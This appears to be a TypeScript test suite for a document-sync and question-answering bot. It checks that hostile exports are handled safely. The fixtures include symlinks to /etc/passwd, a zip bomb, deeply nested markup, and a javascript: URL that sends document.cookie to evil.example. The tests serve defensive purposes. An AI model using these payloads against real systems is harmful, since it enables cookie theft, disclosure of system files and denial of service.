// The attacks found by probing the bot with hostile exports, each reproduced exactly: what the
// attacker did, what the sync must report, and that what was indexed before still answers.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { AccessPolicy } from '../../src/access/access-policy.js';
import { answerQuestion } from '../../src/answer/answer-question.js';
import type { SourceSpec } from '../../src/config.js';
import type { SyncReport } from '../../src/domain.js';
import { openSqliteStore, type SqliteStore } from '../../src/index/sqlite-store.js';
import { ParserPool } from '../../src/ingest/parsers/parser-pool.js';
import { runSync, type SyncOptions } from '../../src/ingest/run-sync.js';
import { ConfluenceSource } from '../../src/ingest/sources/confluence-source.js';
import type { DocumentSource } from '../../src/ingest/sources/document-source.js';
import type { ExportSourceOptions } from '../../src/ingest/sources/export-source.js';
import { FolderSource } from '../../src/ingest/sources/folder-source.js';
import { SharePointSource } from '../../src/ingest/sources/sharepoint-source.js';
import { syncReportText } from '../../src/ingest/sync-report-text.js';
import { docxFile, inflatingDocx } from '../office-fixtures.js';
import { evidence, folderWith, silentLogger, tempDir } from '../helpers.js';
import { exportBesideSecret } from './export-fixtures.js';
import { writeZip, zipEntries } from '../zip-fixtures.js';

const options: SyncOptions = { chunking: { maxTokens: 200, overlapTokens: 30 }, maxFileBytes: 10 * 1024 * 1024 };
const leave = '# Annual leave\n\nEmployees get 28 days of annual leave.';
const linkReason = 'it is a symbolic link, which is not followed (FOLLOW_SYMLINKS=inside follows links that stay inside the export)';

describe('syncing hostile exports', function () {
  this.timeout(120_000);
  let store: SqliteStore;
  let parsers: ParserPool;
  before(() => {
    parsers = new ParserPool({ maxMemoryMb: 256, timeoutMs: 60_000 });
  });
  after(() => parsers.close());
  beforeEach(() => {
    store = openSqliteStore(path.join(tempDir(), 'index.db'));
  });
  afterEach(() => store.close());

  const sync = (source: DocumentSource, opts: Partial<SyncOptions> = {}): Promise<SyncReport> =>
    runSync({ ...store, logger: silentLogger, access: AccessPolicy.open() }, [source], { ...options, ...opts }).then((reports) => reports[0]!);
  const folder = (location: string, opts: ExportSourceOptions = {}) => new FolderSource({ name: 'docs', kind: 'folder', location }, { parsers, ...opts });
  const ask = (text: string) =>
    answerQuestion(
      { index: store.index, syncState: store.catalogue, retrieval: { topK: 5 }, evidence: evidence(0.5, 0.4) },
      { text, asker: { platform: 'cli', userId: 'u' }, conversation: { id: 'c' }, history: [], readers: ['everyone'] },
    );
  const citedPaths = async (text: string) => (await ask(text)).citations.map((c) => c.passage.document.path);
  const stillAnswersLeave = async () => assert.match((await ask('How many days of annual leave?')).text, /28 days of annual leave\. \[1\]/);

  describe('symbolic links and special files (finding 1)', () => {
    let base: string;
    let docs: string;
    beforeEach(() => {
      ({ base, docs } = exportBesideSecret(leave));
    });

    it('does not quote /etc/passwd or ../../outside/secret.md linked into a folder export, and reports both links as skipped', async () => {
      await sync(folder(docs));
      fs.symlinkSync('/etc/passwd', path.join(docs, 'passwd.txt'));
      fs.symlinkSync('../../outside/secret.md', path.join(docs, 'secret.md'));
      const report = await sync(folder(docs));
      assert.deepEqual(report.skipped, [
        { path: 'passwd.txt', reason: linkReason },
        { path: 'secret.md', reason: linkReason },
      ]);
      assert.deepEqual(await citedPaths('root x 0 0 root /root /bin/bash'), []);
      assert.deepEqual(await citedPaths('vault combination safe painting'), []);
      await stillAnswersLeave();
    });

    it('does not follow a link inside a SharePoint library folder or a Confluence attachments folder', async () => {
      const library = folderWith({ 'Policies/Leave policy.md': leave });
      fs.symlinkSync('/etc/passwd', path.join(library, 'Policies/passwd.txt'));
      const sharepoint = new SharePointSource({ name: 'intranet', kind: 'sharepoint', location: library }, { baseUrl: null, parsers });
      assert.deepEqual((await sync(sharepoint)).skipped, [{ path: 'Policies/passwd.txt', reason: linkReason }]);
      const page = '<html><head><title>Wiki : Leave</title></head><body><div id="main-content"><p>Employees get 28 days of annual leave.</p></div></body></html>';
      const space = folderWith({ 'Leave_123.html': page, 'attachments/123/.keep': '' });
      fs.symlinkSync('/etc/passwd', path.join(space, 'attachments/123/456.txt'));
      const confluence = new ConfluenceSource({ name: 'wiki', kind: 'confluence', location: space }, { baseUrl: null, parsers });
      assert.deepEqual((await sync(confluence)).skipped, [{ path: 'attachments/123/456.txt', reason: linkReason }]);
      assert.deepEqual(await citedPaths('root x 0 0 root /root /bin/bash'), []);
      await stillAnswersLeave();
    });

    it('finishes a sync past a named pipe, a link to one and a link to /dev/zero, reporting each as skipped', async () => {
      execFileSync('mkfifo', [path.join(docs, 'pipe.md')]);
      execFileSync('mkfifo', [path.join(base, 'outside/pipe.md')]);
      fs.symlinkSync(path.join(base, 'outside/pipe.md'), path.join(docs, 'linked-pipe.md'));
      fs.symlinkSync('/dev/zero', path.join(docs, 'zero.txt'));
      for (const followSymlinks of ['never', 'inside'] as const) {
        const report = await sync(folder(docs, { followSymlinks }));
        assert.deepEqual(
          report.skipped.map((s) => s.path),
          ['linked-pipe.md', 'pipe.md', 'zero.txt'],
        );
        assert.equal(report.skipped.find((s) => s.path === 'pipe.md')!.reason, 'it is a named pipe (FIFO), not a regular file');
        if (followSymlinks === 'inside') assert.equal(report.skipped.find((s) => s.path === 'zero.txt')!.reason, 'it is a symbolic link to a place outside the export, which is never followed');
      }
      await stillAnswersLeave();
    });

    it('with FOLLOW_SYMLINKS=inside, indexes a link that resolves inside the export, and drops it from the index once links are not followed', async () => {
      fs.mkdirSync(path.join(docs, 'shared'));
      fs.symlinkSync('../hr/leave.md', path.join(docs, 'shared/leave.md'));
      fs.symlinkSync('../../outside/secret.md', path.join(docs, 'secret.md'));
      const followed = await sync(folder(docs, { followSymlinks: 'inside' }));
      assert.equal(followed.added, 2);
      assert.equal((await store.catalogue.sourceStatuses())[0]!.documents, 2);
      assert.deepEqual(await citedPaths('vault combination safe painting'), []);
      const notFollowed = await sync(folder(docs), { allowMassDelete: true });
      assert.equal(notFollowed.deleted, 1);
      assert.equal((await store.catalogue.sourceStatuses())[0]!.documents, 1);
      assert.deepEqual(await citedPaths('How many days of annual leave?'), ['hr/leave.md']);
    });
  });

  it('fails a 280 MB-inflating Word file with its reason, keeps indexing the rest, and keeps what was indexed (finding 2)', async () => {
    const docs = folderWith({ 'hr/leave.md': leave });
    await sync(folder(docs));
    fs.writeFileSync(path.join(docs, 'bomb.docx'), await inflatingDocx(280));
    fs.writeFileSync(path.join(docs, 'expenses.docx'), await docxFile());
    const report = await sync(folder(docs));
    assert.deepEqual(report.failed, [{ path: 'bomb.docx', reason: report.failed[0]!.reason }]);
    assert.match(report.failed[0]!.reason, /^its part word\/document\.xml has a compression ratio of \d+:1; refused as a possible zip bomb$/);
    assert.equal(report.added, 1);
    assert.match((await ask('What is the hotel limit per night?')).text, /150 EUR per night/);
    await stillAnswersLeave();
  });

  it('indexes 100,000-deep HTML and a 2,000-deep Markdown list in parser processes, and what was indexed before still answers (finding 3)', async () => {
    const docs = folderWith({ 'hr/leave.md': leave });
    await sync(folder(docs));
    fs.writeFileSync(path.join(docs, 'deep.html'), `${'<div>'.repeat(100_000)}The deep page explains the parking permit rules.${'</div>'.repeat(100_000)}`);
    fs.writeFileSync(path.join(docs, 'deep.md'), Array.from({ length: 2000 }, (_, i) => `${'  '.repeat(i)}- step ${i} of the printer setup`).join('\n'));
    const report = await sync(folder(docs));
    assert.deepEqual([report.added, report.failed], [2, []]);
    assert.deepEqual(await citedPaths('parking permit rules'), ['deep.html']);
    assert.equal((await citedPaths('step 1999 printer setup'))[0], 'deep.md');
    await stillAnswersLeave();
  });

  it('keeps the indexed version of a policy emptied to 0 bytes and warns, and deletes it only once the file is gone (finding 4)', async () => {
    const docs = folderWith({ 'hr/leave.md': leave, 'it/vpn.md': '# VPN\n\nInstall WireGuard.', 'notes.md': '# Notes\n\nThe cafeteria opens at 8.' });
    await sync(folder(docs));
    fs.truncateSync(path.join(docs, 'hr/leave.md'), 0);
    const emptied = await sync(folder(docs));
    assert.deepEqual([emptied.updated, emptied.deleted, emptied.skipped], [0, 0, []]);
    assert.deepEqual(emptied.warnings, [{ path: 'hr/leave.md', reason: 'it now holds no text (emptied, or still being written?); its indexed version is kept until the file is gone' }]);
    assert.match(syncReportText(emptied), /, 1 warning \(.*\n {2}warning: hr\/leave\.md: it now holds no text/);
    await stillAnswersLeave();
    assert.deepEqual((await sync(folder(docs))).warnings!.length, 1, 'the next sync looks again, and warns again');
    fs.writeFileSync(path.join(docs, 'hr/leave.md'), leave.replace('28', '30'));
    assert.equal((await sync(folder(docs))).updated, 1);
    assert.match((await ask('How many days of annual leave?')).text, /30 days/);
    fs.rmSync(path.join(docs, 'hr/leave.md'));
    assert.equal((await sync(folder(docs))).deleted, 1);
    assert.deepEqual(await citedPaths('How many days of annual leave?'), []);
  });

  it('stores only http(s) document links: a javascript: webUrl in a Graph listing, or base url, never becomes a citation link (finding 5)', async () => {
    const listing = { value: [{ name: 'Leave policy.md', size: 60, file: {}, webUrl: 'javascript:fetch(`https://evil.example/?c=${document.cookie}`)' }] };
    const library = folderWith({ 'Policies/Leave policy.md': leave, 'Policies/children.json': JSON.stringify(listing) });
    await sync(new SharePointSource({ name: 'intranet', kind: 'sharepoint', location: library }, { baseUrl: 'https://contoso.sharepoint.com/sites/hr', parsers }));
    assert.equal((await ask('How many days of annual leave?')).citations[0]!.passage.document.url, 'https://contoso.sharepoint.com/sites/hr/Policies/Leave%20policy.md');
    await sync(new SharePointSource({ name: 'intranet', kind: 'sharepoint', location: library }, { baseUrl: null, parsers }), { reindex: true });
    assert.equal((await ask('How many days of annual leave?')).citations[0]!.passage.document.url, null);
    const page = '<html><head><title>Wiki : Leave</title></head><body><div id="main-content"><p>Employees get 28 days of annual leave.</p></div></body></html>';
    const spec: SourceSpec = { name: 'intranet', kind: 'confluence', location: folderWith({ 'Leave_123.html': page }) };
    await sync(new ConfluenceSource(spec, { baseUrl: 'javascript:alert(1)//', parsers }), { allowMassDelete: true });
    const { document } = (await ask('How many days of annual leave?')).citations[0]!.passage;
    assert.deepEqual([document.title, document.url], ['Leave', null]);
  });

  it('keeps the first of two zip entries with one name, says which in the report, and indexes it (finding 6)', async () => {
    const zip = await zipEntries([
      { name: 'hr/leave.md', content: leave },
      { name: 'hr/vpn.md', content: '# VPN\n\nInstall WireGuard to reach the build servers.' },
      { name: 'hr/leave.md', content: '# Annual leave\n\nEmployees get 2 days of annual leave.' },
    ]);
    const report = await sync(folder(writeZip(zip)));
    assert.equal(report.added, 2);
    assert.deepEqual(report.failed, [{ path: 'hr/leave.md', reason: 'entry 3 of the zip has the same name as entry 1; the first one (entry 1) is indexed, this one is left out' }]);
    await stillAnswersLeave();
    const page = (days: number) => `<html><head><title>Wiki : Leave</title></head><body><div id="main-content"><p>Employees get ${days} days of annual leave.</p></div></body></html>`;
    const space = folderWith({ 'Leave_123.html': page(28), 'Leave-copy_123.html': page(2) });
    const wiki = await sync(new ConfluenceSource({ name: 'wiki', kind: 'confluence', location: space }, { baseUrl: null, parsers }));
    assert.deepEqual(wiki.failed, [{ path: 'Leave-copy_123.html', reason: 'another file of page 123 comes first (Leave_123.html); that one is indexed, this one is left out' }]);
    assert.match((await ask('How many days of annual leave?')).text, /28 days/);
  });
});
